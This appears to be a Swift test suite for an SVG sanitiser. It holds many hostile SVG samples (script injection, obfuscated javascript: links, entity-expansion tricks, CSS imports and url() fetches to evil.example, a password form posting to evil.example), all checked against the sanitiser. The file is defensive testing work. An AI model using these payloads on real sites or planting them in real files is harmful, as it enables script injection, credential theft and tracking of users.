import PortalMarkdown
import Testing

@Suite("Sanitising SVG images from docs folders")
struct SVGSanitizerTests {
    private func sanitize(_ svg: String) -> String? {
        SVGSanitizer.sanitize(Array(svg.utf8)).map { String(decoding: $0, as: UTF8.self) }
    }

    static let open = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">"

    /// Hostile SVGs: each would run script (or load a document) if opened as written.
    static let attacks: [String] = [
        open + "<script>alert(1)</script></svg>",
        open + "<script><![CDATA[ if (1 < 2) alert(1) ]]></script></svg>",
        open + "<SCRIPT>alert(1)</SCRIPT></svg>",
        open + "<script/><script xlink:href=\"https://evil.example/x.js\"/></svg>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
        "<svg:svg xmlns:svg=\"http://www.w3.org/2000/svg\"><svg:script>alert(1)</svg:script></svg:svg>",
        open + "<html:script xmlns:html=\"http://www.w3.org/1999/xhtml\">alert(1)</html:script></svg>",
        open + "<foreignObject width=\"100\" height=\"100\"><body xmlns=\"http://www.w3.org/1999/xhtml\">"
            + "<iframe src=\"javascript:alert(1)\"/><img src=\"x\" onerror=\"alert(1)\"/></body></foreignObject></svg>",
        open + "<img xmlns=\"http://www.w3.org/1999/xhtml\" src=\"x\" onerror=\"alert(1)\"/></svg>",
        open + "<a xlink:href=\"javascript:alert(1)\"><text>click</text></a></svg>",
        open + "<a href=\"jav&#x61;script:alert(1)\"><text>click</text></a></svg>",
        open + "<a href=\" &#x09;javascript:alert(1)\"><text>click</text></a></svg>",
        open + "<a x:href=\"javascript:alert(1)\" xmlns:x=\"http://www.w3.org/1999/xlink\"><text>x</text></a></svg>",
        "<!DOCTYPE svg [<!ENTITY x \"<script>alert(1)</script>\">]>" + open + "&x;</svg>",
        "<!DOCTYPE svg [<!ENTITY js \"javascript:alert(1)\">]>" + open + "<a href=\"&js;\"><text>x</text></a></svg>",
        "<!DOCTYPE svg [<!ATTLIST svg onload CDATA \"alert(1)\">]>" + open + "</svg>",
        open + "<a><animate attributeName=\"href\" values=\"javascript:alert(1)\"/><text>x</text></a></svg>",
        open + "<a><set attributeName=\"xlink:href\" to=\"javascript:alert(1)\"/><text>x</text></a></svg>",
        open + "<a><set attributeName=\" &#x68;ref\" to=\"javascript:alert(1)\"/><text>x</text></a></svg>",
        open + "<rect><set attributeName=\"onmouseover\" to=\"alert(1)\"/></rect></svg>",
        open + "<animate href=\"#a\" attributeName=\"attributeName\" to=\"href\"/></svg>",
        "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"data:text/xsl,x\"?>" + open + "</svg>",
        open + "<use href=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x\"/></svg>",
        open + "<image href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\"/></svg>",
        open + "<feImage xlink:href=\"javascript:alert(1)\"/></svg>",
        open + "<style><![CDATA[</style><script>alert(1)</script>]]></style></svg>",
        open + "<iframe src=\"https://evil.example\"/><embed src=\"x.swf\"/><object data=\"x.html\"/></svg>",
        open + "<handler type=\"application/ecmascript\">alert(1)</handler></svg>",
        open + "<a xml:base=\"javascript:alert(1)//\"><a href=\"x\"><text>x</text></a></a></svg>",
        open + "<form action=\"https://evil.example\"><input name=\"password\"/></form></svg>",
        open + "<math xmlns=\"http://www.w3.org/1998/Math/MathML\" href=\"javascript:alert(1)\"><mi>x</mi></math></svg>",
        open + "<a href=\"javascript:alert(1)\"",
        open + "<text>x</text><!-- --><script>alert(1)</script></svg>",
    ]

    @Test("hostile SVGs come out with nothing that could run script", arguments: attacks)
    func hostileSVG(_ svg: String) throws {
        let sanitized = try #require(sanitize(svg))
        #expect(ActiveContentScanner.svg.findings(in: sanitized) == [], "\(svg) → \(sanitized)")
        #expect(!sanitized.lowercased().contains("<!doctype"))
        #expect(!sanitized.lowercased().contains("<!entity"))
        #expect(!sanitized.lowercased().contains("<!attlist"))
        #expect(!sanitized.contains("<?xml-stylesheet"))
    }

    @Test("the independent scanner would catch each hostile SVG unsanitised")
    func scannerSeesTheAttacks() {
        let missed = Self.attacks.filter {
            ActiveContentScanner.svg.findings(in: $0).isEmpty && !$0.contains("<!DOCTYPE") && !$0.contains("<?xml-stylesheet")
        }
        #expect(missed == [])
    }

    @Test("what a hostile SVG becomes", arguments: [
        (open + "<script>alert(1)</script><rect/></svg>", open + "<rect/></svg>"),
        ("<svg onload=\"alert(1)\" width=\"10\">\n</svg>", "<svg width=\"10\">\n</svg>"),
        ("<svg\n  onload=\"alert(1)\"\n  width=\"10\"/>", "<svg\n  width=\"10\"/>"),
        ("<svg><a xlink:href=\"javascript:alert(1)\" fill=\"red\">x</a></svg>", "<svg><a fill=\"red\">x</a></svg>"),
        ("<!DOCTYPE svg [<!ENTITY x \"<script>alert(1)</script>\">]><svg>&x;</svg>", "<svg>&amp;x;</svg>"),
        ("<svg><a><set attributeName=\"href\" to=\"javascript:alert(1)\"/>x</a></svg>", "<svg><a>x</a></svg>"),
        ("<svg><style><![CDATA[</style><script>alert(1)</script>]]></style></svg>",
         "<svg><style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style></svg>"),
        ("<svg><text><![CDATA[a < b & c]]></text></svg>", "<svg><text>a &lt; b &amp; c</text></svg>"),
        ("<svg><foreignObject><div xmlns=\"http://www.w3.org/1999/xhtml\">hi</div></foreignObject><rect/></svg>",
         "<svg><rect/></svg>"),
        ("<svg><rect width=10 height='5'/></svg>", "<svg><rect width=\"10\" height='5'/></svg>"),
        ("<svg><text>AT&T &amp; &#169; &undefined; 1 < 2</text></svg>",
         "<svg><text>AT&amp;T &amp; &#169; &amp;undefined; 1 &lt; 2</text></svg>"),
        ("<svg><a title=\"a<b\">x</a></svg>", "<svg><a title=\"a&lt;b\">x</a></svg>"),
        ("<svg><!-- note --><rect/></svg>", "<svg><rect/></svg>"),
        ("<svg><rect/><?php echo 1; ?></svg>", "<svg><rect/></svg>"),
    ])
    func hostileResult(_ svg: String, _ expected: String) {
        #expect(sanitize(svg) == expected)
    }

    @Test("CSS in <style> and style attributes cannot fetch anything outside the file", arguments: [
        ("<svg><style>@import url(\"javascript:alert(1)\");.a{fill:red}</style></svg>", "<svg><style>.a{fill:red}</style></svg>"),
        ("<svg><style>@IMPORT 'https://evil.example/x.css' screen;\n.a{}</style></svg>", "<svg><style>\n.a{}</style></svg>"),
        ("<svg><style>@\\69mport url(x.css);</style></svg>", "<svg><style></style></svg>"),
        ("<svg><style>@imp<!-- split -->ort url(x.css);</style></svg>", "<svg><style></style></svg>"),
        ("<svg><style>@imp<x/>ort url(x.css);</style></svg>", "<svg><style></style></svg>"),
        ("<svg><style>.a{background:url(https://tracker.example/p.gif)}</style></svg>", "<svg><style>.a{background:none}</style></svg>"),
        ("<svg><style>.a{background:URL( 'javascript:alert(1)' ) red}</style></svg>", "<svg><style>.a{background:none red}</style></svg>"),
        ("<svg><style>.a{background:\\75 rl(//evil.example/x)}</style></svg>", "<svg><style>.a{background:none}</style></svg>"),
        ("<svg><style>.a{background:u\\rl(/**/https://evil.example/x)}</style></svg>", "<svg><style>.a{background:none}</style></svg>"),
        ("<svg><style>.a{background:image-set(\"https://evil.example/x.png\" 1x)}</style></svg>",
         "<svg><style>.a{background:image-set(none 1x)}</style></svg>"),
        ("<svg><style>@font-face{src:url(https://evil.example/f.woff)}</style></svg>", "<svg><style>@font-face{src:none}</style></svg>"),
        ("<svg><style>.a{fill:url(#g);b:url(data:image/png;base64,AA==)}</style></svg>",
         "<svg><style>.a{fill:url(#g);b:url(data:image/png;base64,AA==)}</style></svg>"),
        ("<svg><style>.a{b:url(data:image/svg+xml,x)}</style></svg>", "<svg><style>.a{b:none}</style></svg>"),
        ("<svg><style>.a{width:expression(alert(1));fill:red}</style></svg>", "<svg><style>.a{fill:red}</style></svg>"),
        ("<svg><style>.a{fill:red; -moz-binding: url(x.xml#b); behavior:url(x.htc)}</style></svg>", "<svg><style>.a{fill:red;}</style></svg>"),
        ("<svg><style>.a{background:url(&quot;https://e.example&quot;)} i&gt;b{}</style></svg>",
         "<svg><style>.a{background:none} i&gt;b{}</style></svg>"),
        ("<svg><style><![CDATA[.a{background:url(https://e.example/x)} a>b{}]]></style></svg>",
         "<svg><style>.a{background:none} a&gt;b{}</style></svg>"),
        ("<svg><rect style=\"fill:url(https://e.example/x);stroke:red\"/></svg>", "<svg><rect style=\"fill:none;stroke:red\"/></svg>"),
        ("<svg><rect style='behavior:url(x.htc);fill:url(&apos;#g&apos;)'/></svg>", "<svg><rect style='fill:url(&apos;#g&apos;)'/></svg>"),
        ("<svg><rect style=\"fill:\\75rl(https://e.example/x)\"/></svg>", "<svg><rect style=\"fill:none\"/></svg>"),
    ])
    func css(_ svg: String, _ expected: String) {
        #expect(sanitize(svg) == expected)
    }

    @Test("a normal SVG comes out byte for byte")
    func normalSVG() {
        let svg = """
            <?xml version="1.0" encoding="UTF-8" standalone="no"?>
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
                 width="240" height="120" viewBox="0 0 240 120" role="img" aria-labelledby="t">
              <title id="t">Request flow &amp; retries</title>
              <desc>Client → gateway → service</desc>
              <style><![CDATA[
                .box { fill: url(#fade); stroke: #333; stroke-width: 1.5 }
                text > tspan { font: 12px/1.2 "Inter", sans-serif }
              ]]></style>
              <defs>
                <linearGradient id="fade" x1="0" y1="0" x2="0" y2="1">
                  <stop offset="0%" stop-color="#fff"/>
                  <stop offset="100%" stop-color="#eef"/>
                </linearGradient>
                <marker id="arrow" markerWidth="10" markerHeight="10" refX="5" refY="5" orient="auto">
                  <path d="M0,0 L10,5 L0,10 z"/>
                </marker>
                <g id="node"><rect class="box" width="60" height="30" rx="4"/></g>
              </defs>
              <use href="#node" x="10" y="40"/>
              <use xlink:href="#node" x="170" y="40"/>
              <path d="M70 55 H170" stroke="#333" marker-end="url(#arrow)" style="fill:none"/>
              <text x="120" y="30" text-anchor="middle"><tspan font-weight="bold">HTTPS</tspan> &#8594; 200</text>
              <a href="https://docs.example/flow" target="_blank"><text x="10" y="110">Docs</text></a>
              <image x="200" y="5" width="16" height="16" href="data:image/png;base64,iVBORw0KGgo="/>
              <image x="180" y="5" width="16" height="16" xlink:href="icons/retry.png"/>
              <circle cx="120" cy="100" r="6" fill="none" stroke="#09f">
                <animateTransform attributeName="transform" type="rotate" from="0 120 100" to="360 120 100"
                                  dur="1s" repeatCount="indefinite"/>
                <animate attributeName="opacity" values="1;0.3;1" dur="2s" repeatCount="indefinite"/>
              </circle>
            </svg>

            """
        #expect(sanitize(svg) == svg)
    }

    @Test("an Illustrator export keeps its entity-valued namespaces once the doctype is gone")
    func illustratorEntities() {
        let svg = """
            <?xml version="1.0" encoding="utf-8"?>
            <!-- Generator: Adobe Illustrator 24.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
            <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
            \t<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/">
            \t<!ENTITY ns_svg "http://www.w3.org/2000/svg">
            \t<!ENTITY ns_xlink "http://www.w3.org/1999/xlink">
            \t<!ENTITY st0 "fill:#1A73E8;">
            ]>
            <svg version="1.1" xmlns:x="&ns_extend;" xmlns="&ns_svg;" xmlns:xlink="&ns_xlink;" x="0px" y="0px"
            \t viewBox="0 0 24 24" xml:space="preserve">
            <path style="&st0;" d="M12 2L2 22h20L12 2z"/>
            </svg>
            """
        #expect(sanitize(svg) == """
            <?xml version="1.0" encoding="utf-8"?>


            <svg version="1.1" xmlns:x="http://ns.adobe.com/Extensibility/1.0/" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px"
            \t viewBox="0 0 24 24" xml:space="preserve">
            <path style="fill:#1A73E8;" d="M12 2L2 22h20L12 2z"/>
            </svg>
            """)
    }

    @Test("entities expand only while the budget lasts, and never recursively")
    func entityExpansionIsBounded() throws {
        let big = String(repeating: "a", count: 1 << 16)
        let svg = "<!DOCTYPE svg [<!ENTITY a \"\(big)\"><!ENTITY b \"&a;&a;\">]><svg>"
            + String(repeating: "&a;", count: 100) + "&b;</svg>"
        let sanitized = try #require(SVGSanitizer.sanitize(Array(svg.utf8)))
        #expect(sanitized.count < (1 << 20) + 8_000)
        #expect(String(decoding: sanitized, as: UTF8.self).hasSuffix("&amp;a;&amp;b;</svg>"))
    }

    @Test("files that are not SVG documents are refused", arguments: [
        "", "   ", "hello", "<html><body><script>alert(1)</script></body></html>", "<!DOCTYPE html><html></html>",
        "<?xml version=\"1.0\"?><rss/>", "text before <svg/>", "<svg", "<svg onload=alert(1)",
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?><svg/>", "<?xml version=\"1.0\" encoding=\"ISO-2022-JP\"?><svg/>",
        "<![CDATA[x]]><svg/>", "&amp;<svg/>", "</svg><svg/>",
    ])
    func notSVG(_ text: String) {
        #expect(sanitize(text) == nil)
    }

    @Test("a byte-order mark, a Latin-1 declaration and a root with a prefix are fine")
    func recognisedVariants() {
        #expect(sanitize("\u{FEFF}<svg/>") == "\u{FEFF}<svg/>")
        #expect(sanitize("<?xml version='1.0' encoding='ISO-8859-1'?>\n<svg/>") == "<?xml version='1.0' encoding='ISO-8859-1'?>\n<svg/>")
        #expect(sanitize("<svg:svg xmlns:svg=\"http://www.w3.org/2000/svg\"/>") == "<svg:svg xmlns:svg=\"http://www.w3.org/2000/svg\"/>")
    }

    @Test("pathological SVGs are read in linear time", arguments: [
        "nested groups", "unclosed comment", "open script", "many attributes",
        "binding words", "open urls", "open functions", "elements in style", "expressions",
    ])
    func pathological(_ label: String) throws {
        let svg = switch label {
        case "nested groups": "<svg>" + String(repeating: "<g>", count: 200_000)
        case "unclosed comment": "<svg>" + String(repeating: "<!--", count: 100_000)
        case "open script": "<svg>" + String(repeating: "<script>", count: 100_000)
        case "binding words": "<svg><style>a " + String(repeating: "behavior /**/ ", count: 100_000) + "</style></svg>"
        case "open urls": "<svg><style>" + String(repeating: "url(\"#a\" ", count: 100_000)
        case "open functions": "<svg><style>" + String(repeating: "image-set(\"#a\" ", count: 100_000)
        case "elements in style": "<svg><style>" + String(repeating: "<x>@import ", count: 100_000)
        case "expressions": "<svg><rect style=\"" + String(repeating: "a:expression(;", count: 100_000) + "\"/></svg>"
        default: "<svg " + (0..<100_000).map { "a\($0)=\"1\" " }.joined() + "/>"
        }
        let sanitized = try #require(SVGSanitizer.sanitize(Array(svg.utf8)))
        #expect(sanitized.count <= svg.utf8.count * 2)
    }
}
